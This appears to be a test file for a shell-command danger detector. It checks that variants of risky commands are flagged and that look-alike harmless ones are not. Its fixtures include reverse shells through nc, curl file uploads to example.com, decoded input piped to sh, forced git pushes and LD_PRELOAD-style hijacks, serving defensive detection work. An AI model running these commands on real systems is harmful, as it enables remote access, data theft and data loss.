import { describe, expect, test } from "vitest";
import { seenIn } from "@/server/testing/seen-in";
import { shellDangers } from "./dangers-in";

describe("what is nearly the same", () => {
  test.each<[sighting: string, commands: string[]]>([
    ["delete: deletes files", ["rm -f a -- --help", "rm -- -r", "rm a--recursive"]],
    ["delete: cuts a file off", ["truncate -s -5 a", "truncate -s /5 a"]],
    [
      "made_runnable: makes a file a program and runs it at once",
      ["chmod 611 a; ./a", "chmod -cfv +x a; ./a", "chmod --changes +x a; ./a", "chmod -R 755 a; ./a"],
    ],
    ["upload: sends a file to another machine", ["curl --data-urlencode name@file https://example.com", "curl -sT a https://example.com"]],
    ["piped_program: hands what another command prints to sh", ["base64 a-d | sh", "xxd a-r | sh", "gzip a-d | sh"]],
    [
      "reverse_shell: hands a shell to another machine",
      ["sh < p | nc.traditional h", "nc h 1; sh -i < p | nc h 2", "ls | nc h 1; sh -i < p | nc h 2"],
    ],
    ["reverse_shell: hands a terminal to another machine", ["xterm 10.20.30.40:1"]],
    ["git_discard: deletes files that git does not know", ["git --no-pager clean -f"]],
    ["git_discard: throws away changes that were not committed", ["git restore --stagedx a", "git restore x-S a", "git restore -S -qW a"]],
    ["git_discard: deletes a branch that was not merged", ["git branch -rdf a"]],
    ["git_discard: removes a folder with its changes", ["git worktree remove -qf a"]],
    [
      "git_force_push: overwrites or removes what others have on the server",
      ["git push -fu", "git push -qd origin a", "git push -dq origin a"],
    ],
    ["git_escape: changes git's setting set.x, which can name a program", ["git config set.x y"]],
    ["git_escape: changes git's setting x.set, which can name a program", ["git config x.set y"]],
    ["git_escape: changes git's setting core.editor, which can name a program", ["git config core.editor x--get"]],
  ])("%s", (sighting, commands) => {
    for (const command of commands) expect(seenIn(command), command).toContain(sighting);
  });

  test.each([
    "docker inspect system prune",
    "tofu plan destroy",
    "kubectl --n=a get delete x",
    "stat +x a; chmod 600 b; ./a",
    "curl -F a=b me@example.com",
    "curl x-d@a",
    "shx < p | nc h 1",
    "xterm a10.0.0.1:1",
    "git --no-color status",
    "git --no-pager log",
    "git --xpaginate log",
    "git branch -f x-d",
    "git branch -d x-f",
    "git checkout x-f",
    "git checkout a--",
    "git checkout a.",
    "git restore -S x-W",
    "git update-ref x-d y",
    "git worktree remove x-f",
  ])("%s is ordinary", (command) => {
    expect(seenIn(command)).toEqual([]);
  });
});

test("what an allow rule covers all the same is a danger that the command's name says", () => {
  const covered =
    "delete delete_recursively delete_service_data open_permissions change_owner login_keys sudoers startup_file system_file raw_copy schedule services kill_by_name machine_setup git_force_push git_discard";
  const escaping = shellDangers.filter(({ escapes }) => !escapes).map(({ id }) => id.replace("shell.", ""));
  expect(escaping).toEqual(covered.split(" "));
});

describe("what is nearly the same, of rights and of the machine", () => {
  test.each(
    "DYLD_INSERT_LIBRARIES BASH_ENV PROMPT_COMMAND GIT_CONFIG_PARAMETERS LESSKEYIN SSH_ASKPASS_REQUIRE LUA_INIT_5_4 LUA_PATH LUA_CPATH CARGO_BUILD_RUSTC_WRAPPER CARGO_TARGET_X_LINKER ANSIBLE_CONFIG R_PROFILE_USER R_ENVIRON_USER CORECLR_PROFILER_PATH _RLD_PRELOAD LD_AUDIT".split(
      " ",
    ),
  )("the variable %s changes what other commands do", (name) => {
    expect(seenIn(`${name}=x ls`)).toContain(`environment: sets ${name}, which changes what other commands do`);
  });

  test.each<[sighting: string, commands: string[]]>([
    ["inline_program: hands a script to bash (-cx)", ["bash -cx ls"]],
    ["inline_program: runs a node program that comes from its input", ["cat a | node --tester", "cat a | node -vx"]],
    ["inline_program: runs a php program that comes from its input", ["cat a | php --versions"]],
    ["inline_program: runs a python3 program that comes from its input", ["cat a | python3 -hx"]],
    ["other_user: runs with the rights of another user (sudo)", ["sudo --listx", "sudo x-l"]],
    ["remote_command: runs a command on another machine", ["sshpass -p x", "ssh x-V"]],
    ["open_permissions: lets everybody run a file with its owner's rights (u=rwxs)", ["chmod u=rwxs a"]],
    ["raw_copy: copies raw blocks, which a wrong name makes fatal", ["dd bs=1 of=b"]],
    ["services: changes what runs on the machine", ["systemctl x.y stop"]],
    ["schedule: sets commands that run later by themselves", ["crontab -lx"]],
    ["environment: sets LD_PRELOAD, which changes what other commands do", ["for LD_PRELOAD in a; do ls; done", "env LD_PRELOAD= ls"]],
  ])("%s", (sighting, commands) => {
    for (const command of commands) expect(seenIn(command), command).toContain(sighting);
  });

  test.each([
    "chmod x644 b",
    "chown x-R me",
    "kubectl xexec p",
    "docker xrun a",
    "tee a/etc/x",
    "cp a /etc/x b",
    "systemctl xstop a",
    "systemctl stopx a",
    "killall x-s 9",
    "killall -sx 9",
    "killall -s x9",
    "bash x-c",
    "x FOO=1 PATH=2",
    "printf x-vPATH a",
  ])("%s is ordinary", (command) => {
    expect(seenIn(command)).toEqual([]);
  });

  test("what is mounted is one of a container's options", () => {
    for (const command of ["docker run --xprivileged a", "docker run x-v /:/y z"]) {
      expect(seenIn(command), command).toEqual(["container_run: runs a program in a container"]);
    }
  });
});
